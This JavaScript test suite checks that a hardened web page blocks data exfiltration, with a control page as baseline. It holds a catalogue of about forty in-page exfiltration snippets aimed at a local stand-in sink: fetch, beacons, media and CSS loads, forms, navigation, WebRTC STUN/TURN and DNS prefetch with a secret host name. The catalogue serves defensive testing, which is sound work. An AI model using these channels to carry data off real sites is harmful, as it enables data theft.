/**
 * Attacks that try to carry data away, run with the page's own rights (rows A01 to A08 and A11 of the list of faults).
 *
 * Every attack first runs on a page without any policy and must arrive there: an attack that cannot arrive proves nothing. Then it
 * runs in the built page, and nothing may arrive.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { launch } from './lib/browsers.mjs';
import { startSink } from './lib/sink.mjs';
import { assert, same, sleep, until } from './lib/tools.mjs';
import { Visit } from './lib/visit.mjs';
import { respondentFile } from './respond.mjs';

/** Chromium honours every header; Firefox knows no Connection-Allowlist. */
const BOTH = ['chromium', 'firefox'];
const CHROMIUM = ['chromium'];

/**
 * `by` says what closes it: `policy` (the meta element, so also from disk), `sandbox` (the policy as a header), `allowlist`
 * (Connection-Allowlist: Chromium), `origin` (a sandbox without an address of its own). `run` gets where to send (`to(name)` of the sink, with data in the query). `alone`: the page is
 * gone or changed afterwards, or must be idle, so the attack gets one of its own.
 */
const ATTACKS = [
  { id: 'a01-fetch', by: 'policy', run: (to) => fetch(to, { mode: 'no-cors' }).catch(() => {}) },
  { id: 'a01-fetch-keepalive', by: 'policy', run: (to) => fetch(to, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'Ada' }).catch(() => {}) },
  { id: 'a01-xhr', by: 'policy', run: (to) => { const x = new XMLHttpRequest(); x.open('GET', to); try { x.send(); } catch { /* refused */ } } },
  { id: 'a01-beacon', by: 'policy', run: (to) => navigator.sendBeacon(to, 'Ada') },
  { id: 'a01-websocket', by: 'policy', run: (to) => { try { new WebSocket(to.replace('http', 'ws')); } catch { /* refused */ } } },
  { id: 'a01-eventsource', by: 'policy', run: (to) => { try { new EventSource(to); } catch { /* refused */ } } },
  { id: 'a01-webtransport', by: 'policy', udp: true, browsers: CHROMIUM, run: (to, on) => { try { const t = new WebTransport(`https://${on.address}:${on.port}/x`); t.ready.catch(() => {}); t.closed.catch(() => {}); } catch { /* refused */ } } },
  { id: 'a02-img', by: 'policy', run: (to) => { new Image().src = to; } },
  { id: 'a02-img-element', by: 'policy', run: (to) => { const one = document.createElement('img'); one.srcset = `${to} 2x, ${to}`; document.body.append(one); } },
  { id: 'a02-script', by: 'policy', run: (to) => { const one = document.createElement('script'); try { one.src = to; document.body.append(one); } catch { /* refused */ } } },
  { id: 'a02-stylesheet', by: 'policy', run: (to) => { const one = document.createElement('link'); one.rel = 'stylesheet'; one.href = to; document.head.append(one); } },
  { id: 'a02-css-import', by: 'policy', run: (to) => { const one = document.createElement('style'); one.textContent = `@import url("${to}");`; document.head.append(one); } },
  { id: 'a02-css-url', by: 'policy', run: (to) => { document.body.style.backgroundImage = `url("${to}")`; } },
  { id: 'a02-font', by: 'policy', run: (to) => { const face = new FontFace('leak', `url("${to}")`); document.fonts.add(face); face.load().catch(() => {}); } },
  { id: 'a02-video', by: 'policy', run: (to) => { const one = document.createElement('video'); one.preload = 'auto'; one.src = to; document.body.append(one); one.load(); } },
  { id: 'a02-audio', by: 'policy', run: (to) => { const one = new Audio(to); one.preload = 'auto'; one.load(); } },
  { id: 'a02-track', by: 'policy', run: (to) => { const one = document.createElement('video'); const t = document.createElement('track'); t.src = to; t.default = true; one.crossOrigin = 'anonymous'; one.append(t); document.body.append(one); t.track.mode = 'showing'; } },
  { id: 'a02-iframe', by: 'policy', run: (to) => { const one = document.createElement('iframe'); one.src = to; document.body.append(one); } },
  { id: 'a02-object', by: 'policy', run: (to) => { const one = document.createElement('object'); one.data = to; document.body.append(one); } },
  { id: 'a02-embed', by: 'policy', run: (to) => { const one = document.createElement('embed'); try { one.src = to; document.body.append(one); } catch { /* refused */ } } },
  { id: 'a02-svg-image', by: 'policy', run: (to) => { const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const one = document.createElementNS('http://www.w3.org/2000/svg', 'image'); one.setAttribute('href', to); svg.append(one); document.body.append(svg); } },
  { id: 'a02-ping', by: 'policy', browsers: CHROMIUM, run: (to) => { const one = document.createElement('a'); one.href = '#stay'; one.ping = to; document.body.append(one); one.click(); } },
  { id: 'a02-worker-fetch', by: 'policy', worker: true, run: (to) => fetch(to, { mode: 'no-cors' }).catch(() => {}) },
  { id: 'a03-form-get', by: 'policy', alone: true, run: (to) => { const one = document.createElement('form'); one.action = to; const field = document.createElement('input'); field.name = 'd'; field.value = 'Ada'; one.append(field); document.body.append(one); one.submit(); } },
  { id: 'a03-form-post', by: 'policy', alone: true, run: (to) => { const one = document.createElement('form'); one.action = to; one.method = 'post'; document.body.append(one); one.submit(); } },
  { id: 'a03-form-blank', by: 'policy', alone: true, run: (to) => { const one = document.createElement('form'); one.action = to; one.target = '_blank'; document.body.append(one); one.submit(); } },
  { id: 'a04-location', by: 'allowlist', alone: true, run: (to) => { location.href = to; } },
  { id: 'a04-replace', by: 'allowlist', alone: true, run: (to) => { location.replace(to); } },
  { id: 'a04-click', by: 'allowlist', alone: true, run: (to) => { const one = document.createElement('a'); one.href = to; document.body.append(one); one.click(); } },
  { id: 'a04-download', by: 'allowlist', alone: true, run: (to) => { const one = document.createElement('a'); one.href = to; one.download = 'x'; document.body.append(one); one.click(); } },
  { id: 'a04-meta-refresh', by: 'allowlist', alone: true, run: (to) => { const one = document.createElement('meta'); one.httpEquiv = 'refresh'; one.content = `0; url=${to}`; document.head.append(one); } },
  { id: 'a05-window-open', by: 'sandbox', alone: true, run: (to) => { window.open(to); } },
  { id: 'a05-click-blank', by: 'sandbox', alone: true, run: (to) => { const one = document.createElement('a'); one.href = to; one.target = '_blank'; document.body.append(one); one.click(); } },
  { id: 'a06-stun', by: 'allowlist', udp: true, run: (to, on) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${on.address}:${on.port}` }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
  { id: 'a06-turn-udp', by: 'allowlist', udp: true, run: (to, on) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${on.address}:${on.port}`, username: 'Ada', credential: 'x' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
  { id: 'a06-turn-tcp', by: 'allowlist', tcp: true, run: (to, on) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `turn:${on.address}:${on.port}?transport=tcp`, username: 'Ada', credential: 'x' }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
  { id: 'a06-fresh-realm', by: 'allowlist', udp: true, alone: true, run: (to, on) => { delete window.RTCPeerConnection; const frame = document.createElement('iframe'); document.body.append(frame); const Peer = frame.contentWindow?.RTCPeerConnection; if (!Peer) return; const peer = new Peer({ iceServers: [{ urls: `stun:${on.address}:${on.port}` }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } },
  { id: 'a07-prefetch', by: 'policy', alone: true, run: (to) => { const one = document.createElement('link'); one.rel = 'prefetch'; one.href = to; document.head.append(one); } },
  { id: 'a07-preload', by: 'policy', run: (to) => { const one = document.createElement('link'); one.rel = 'preload'; one.as = 'image'; one.href = to; document.head.append(one); } },
  { id: 'a07-modulepreload', by: 'policy', run: (to) => { const one = document.createElement('link'); one.rel = 'modulepreload'; one.href = to; document.head.append(one); } },
  // Reaches our own server: a log line there would hold the data.
  { id: 'a11-own-server', by: 'policy', own: true, run: (to) => fetch(to).catch(() => {}) },
  // Goes with the next request to our own server, at the latest when somebody loads the page again.
  { id: 'a11-cookie', by: 'origin', own: true, alone: true, again: true, run: () => { document.cookie = 'd=a11-cookie'; } },
  { id: 'a11-own-navigation', by: 'allowlist', own: true, alone: true, run: (to) => { location.href = to; } },
];

/** Attacks that this browser can carry out at all. */
const possible = (name) => ATTACKS.filter((attack) => (attack.browsers ?? BOTH).includes(name));

/** How long an attack may take to begin, in ms. */
const MOMENT = 5_000;

/** Runs attacks in pages at `url`; answers the ids of those that arrived within `patience` ms. */
async function strike(driver, url, attacks, site, patience) {
  const sink = await startSink();
  const context = await driver.browser.createBrowserContext();
  const [before, cookies] = [site.requests.length, site.cookies.length];
  const arrived = () => {
    const said = site.cookies.slice(cookies).some((one) => one.includes('a11-cookie')) ? ['a11-cookie'] : [];
    const own = site.requests.slice(before).map((one) => /^\/(?:control)?\?(a11-[a-z-]+)=/.exec(one)?.[1]).filter(Boolean);
    return attacks.map(({ id }) => id).filter((id) => sink.hits.includes(id) || own.includes(id) || said.includes(id));
  };
  const began = Date.now();
  try {
    const fresh = async () => {
      // A window of its own: a tab behind another loads no media and connects to nothing ahead of time.
      const page = await context.newPage({ type: 'window' });
      page.on('dialog', (dialog) => void dialog.accept().catch(() => {}));
      await page.goto(url, { waitUntil: 'load' });
      return page;
    };
    const shared = await fresh();
    const own = attacks.filter((attack) => attack.alone);
    const pages = new Map();
    for (const attack of own) pages.set(attack.id, await fresh());
    const worker = attacks.some((attack) => attack.worker) ? await core(driver, shared) : null;
    await Promise.all(attacks.map(async (attack) => {
      const port = attack.udp ? await sink.udp(attack.id) : attack.tcp ? await sink.tcp(attack.id) : sink.port;
      const to = attack.own ? `${url}?${attack.id}=Ada` : `http://sink.test:${port}/${attack.id}/?d=Ada`;
      const on = { address: sink.address, port };
      const where = attack.worker ? worker : (pages.get(attack.id) ?? shared);
      // A navigation ends the evaluation that began it, and now and then takes its answer along: nobody waits longer than a moment.
      const begun = where?.evaluate(`(${attack.run})(${JSON.stringify(to)}, ${JSON.stringify(on)}); null`).catch(() => {});
      await Promise.race([begun, sleep(MOMENT)]);
      if (attack.again) await Promise.race([where?.reload().catch(() => {}), sleep(MOMENT)]);
    }));
    await until('every attack to arrive', () => arrived().length >= attacks.length, { within: patience }).catch(() => {});
    return { arrived: arrived(), took: Date.now() - began };
  } finally {
    await context.close();
    sink.close();
  }
}

/** The worker of a page. The control page gets one of its own; the built page has the one that holds the core. */
async function core(driver, page) {
  if (driver.name !== 'chromium') return null;
  if (page.workers().length === 0) await page.evaluate("if (document.title === 'Control') new Worker(URL.createObjectURL(new Blob(['0'])))");
  return until('a worker', () => page.workers()[0] ?? null);
}

/** Every attack must arrive where nothing guards, and none of `expected` where the page guards itself. */
async function compare({ driver, site }, url, closed, note) {
  const all = possible(driver.name).filter((attack) => !attack.worker || driver.name === 'chromium');
  // Only what this browser is said to refuse needs a control: the rest proves nothing either way.
  const attacks = all.filter(closed);
  const control = await strike(driver, site.url('/control'), attacks, site, 30_000);
  const missing = attacks.map(({ id }) => id).filter((id) => !control.arrived.includes(id));
  same(missing, [], 'attacks that did not arrive even without a policy, so that they prove nothing');
  // What takes this long to arrive when nothing stops it, and half as long again, would be here by now.
  const guarded = await strike(driver, url, attacks, site, Math.max(3_000, control.took * 1.5));
  same(guarded.arrived, [], 'attacks that carried data out of the page');
  return `${attacks.length} of ${all.length} attacks refused, all of which arrive without a policy${note ? `; ${note}` : ''}`;
}

/** The rows of the page's self-check, and attacks that are about what they say. */
const ROWS = { requests: ['a01-fetch', 'a02-img', 'a03-form-get'], popups: ['a05-window-open'], navigation: ['a04-location'], webrtc: ['a06-stun'], cookies: ['a11-cookie'] };

/** What the page is to say of each opening. */
const SELF_CHECK = Object.fromEntries(BOTH.map((browser) => {
  const chromium = browser === 'chromium';
  const [devices, served] = [chromium ? 'open' : 'unseen', chromium ? 'unseen' : 'open'];
  const disk = { requests: 'refused', popups: 'open', navigation: 'open', webrtc: 'open', cookies: 'open', framing: 'unseen', 'same-host': 'refused', devices };
  const bare = { ...disk, navigation: served, webrtc: served, framing: 'open', 'same-host': 'open' };
  const headers = { ...bare, popups: 'refused', framing: 'refused', devices: chromium ? 'refused' : 'unseen' };
  return [browser, { disk, 'no headers': bare, headers, 'no address': { ...headers, cookies: 'refused', 'same-host': 'refused' } }];
}));

/** Opens the self-check by its button and reads it. The probe itself must send nothing. */
async function selfCheck(driver, url) {
  const visit = await Visit.open(driver, url);
  await visit.ready();
  const asked = visit.requests.length;
  await visit.press('What this opening of the page guarantees');
  const rows = await until('the self-check', () => visit.evaluate(() => {
    const all = [...document.querySelectorAll('[data-guarantee]')];
    return all.length > 0 && Object.fromEntries(all.map((one) => [one.dataset.guarantee, one.dataset.state]));
  }));
  same(visit.requests.slice(asked).filter((one) => !/^(data|blob):/.test(one)), [], 'requests by the self-check');
  await visit.sees('the browser’s own generator answers', { selector: 'vv-guarantees' });
  await visit.sees(/Version \d+\.\d+\.\d+, build [0-9a-f]{12}\. /, { selector: 'vv-guarantees' });
  await visit.press('Close', { selector: '.dialog-foot' });
  same(await visit.evaluate(() => document.activeElement?.textContent.trim()), 'What this opening of the page guarantees', 'where the focus is afterwards');
  await visit.drop();
  return rows;
}

/** Most of their time they wait for what must not come: `waits` gives them a place of their own beside the others. */
export const tests = [
  {
    name: 'egress: nothing leaves the served page',
    browsers: CHROMIUM,
    // Cookies are closed by the sandbox without an address, below.
    run: ({ driver, site }) => compare({ driver, site }, site.url('/'), (attack) => attack.by !== 'origin'),
  },
  {
    name: 'egress: nothing leaves the served page by the channels that the policy and the sandbox close',
    browsers: ['firefox'],
    run: ({ driver, site }) => compare({ driver, site }, site.url('/'), (attack) => attack.by === 'policy' || attack.by === 'sandbox',
      'navigation, WebRTC, cookies and name look-ups are not closed by this browser'),
  },
  {
    name: 'egress: the policy inside the file holds without any header',
    browsers: BOTH,
    run: ({ driver, site }) => compare({ driver, site }, site.url('/bare/viceversa.html'), (attack) => attack.by === 'policy',
      'navigation, WebRTC and name look-ups need the headers'),
  },
  {
    name: 'egress: nothing leaves a respondent file, nor a page that asks',
    browsers: BOTH,
    async run({ driver, site, openPage }) {
      const visit = await openPage();
      const { html, remove } = await respondentFile(visit);
      await visit.close();
      remove();
      return compare({ driver, site }, site.spoilt(html), (attack) => !attack.own && (driver.name === 'chromium' || attack.by !== 'allowlist'));
    },
  },
  {
    name: 'egress: in a sandbox without an address of its own no cookie carries anything to the server, and the rest holds',
    browsers: BOTH,
    run: ({ driver, site }) => compare({ driver, site }, site.url('/sealed-off'), (attack) => driver.name === 'chromium' || attack.by !== 'allowlist'),
  },
  {
    name: 'egress: what the page says of this very opening is what attacks find there',
    browsers: BOTH,
    async run({ driver, site }) {
      const told = [];
      for (const [name, url] of [['disk', site.file()], ['no headers', site.url('/bare/viceversa.html')], ['headers', site.url('/')], ['no address', site.url('/sealed-off')]]) {
        const rows = await selfCheck(driver, url);
        same(rows, SELF_CHECK[driver.name][name], `what the page says: ${name}`);
        const attacks = possible(driver.name).filter(({ id }) => Object.values(ROWS).flat().includes(id) && !(name === 'disk' && id === 'a11-cookie'));
        const { arrived } = await strike(driver, url, attacks, site, 8_000);
        for (const [row, ids] of Object.entries(ROWS)) {
          for (const id of ids.filter((one) => attacks.some((attack) => attack.id === one))) {
            if (rows[row] === 'refused') assert(!arrived.includes(id), `${name}: ${row} is said to be refused, and ${id} carried data out`);
            if (rows[row] === 'open') assert(arrived.includes(id), `${name}: ${row} is said to be open, and ${id} did not arrive`);
          }
        }
        told.push(`${name}: ${Object.values(rows).filter((state) => state === 'refused').length} of ${Object.keys(rows).length} refused`);
      }
      return told.join('; ');
    },
  },
  {
    name: 'egress: where the browser gives no random numbers or always the same, and where the core does not answer, the self-check says what is lost',
    browsers: CHROMIUM,
    async run({ openPage }) {
      for (const same of [false, true]) {
        const visit = await openPage();
        await visit.evaluate((given) => {
          crypto.getRandomValues = (bytes) => {
            if (!given) throw new DOMException('none', 'OperationError');
            return bytes.fill(7);
          };
          const { app } = document.querySelector('vv-app');
          const { call } = app;
          app.call = (name, ...others) => (name === 'version' ? Promise.reject(new Error('no core')) : call(name, ...others));
        }, same);
        await visit.press('What this opening of the page guarantees');
        await visit.sees('Nothing can be sealed in this opening of the page', { selector: 'vv-guarantees' });
        await visit.sees('which build this is cannot be said', { selector: 'vv-guarantees' });
        await visit.drop();
      }
    },
  },
  {
    name: 'egress: no name is looked up and no connection tried, by the browser’s own record',
    browsers: CHROMIUM,
    run: ({ site }) => lookUps(site),
  },
].map((test) => ({ ...test, waits: true }));

/**
 * A08: a secret in a host name, and a connection ahead of time. Both the browser's own record and the listener must show them for the
 * control page, and neither for ours. In a browser of its own and outside any private window: those never connect ahead of time.
 */
async function lookUps(site) {
  const folder = mkdtempSync(path.join(tmpdir(), 'viceversa-netlog-'));
  const seen = {};
  const sink = await startSink();
  try {
    let patience = 5_000;
    for (const [name, url] of [['control', site.url('/control')], ['page', site.url('/')]]) {
      const log = path.join(folder, `${name}.json`);
      const port = await sink.tcp(name);
      const driver = await launch('chromium', { netLog: log });
      const page = await driver.browser.newPage();
      await page.goto(url, { waitUntil: 'load' });
      await page.evaluate((to) => {
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload']) {
          const one = document.createElement('link');
          one.rel = rel;
          one.href = to;
          document.head.append(one);
        }
      }, `http://secret-name.sink.test:${port}/`);
      const began = Date.now();
      await until('a connection', () => sink.hits.includes(name), { within: patience }).catch(() => {});
      patience = Math.max(2_000, 2 * (Date.now() - began));
      await driver.close();
      const record = readFileSync(log, 'utf8');
      assert(record.includes('127.0.0.1'), 'the browser kept no record of its network');
      // The rule that maps the name to this machine is itself in the record's first lines, on the command line.
      seen[name] = record.split('\n').filter((line) => line.includes('secret-name.sink.test') && !line.includes('host-resolver-rules')).length;
    }
  } finally {
    rmSync(folder, { recursive: true, force: true });
    sink.close();
  }
  assert(seen.control > 0 && sink.hits.includes('control'), 'the look-up did not arrive even without a policy, so it proves nothing');
  same(seen.page, 0, 'lines in the browser’s record about a name that the page tried to look up');
  assert(!sink.hits.includes('page'), 'the page connected ahead of time');
}
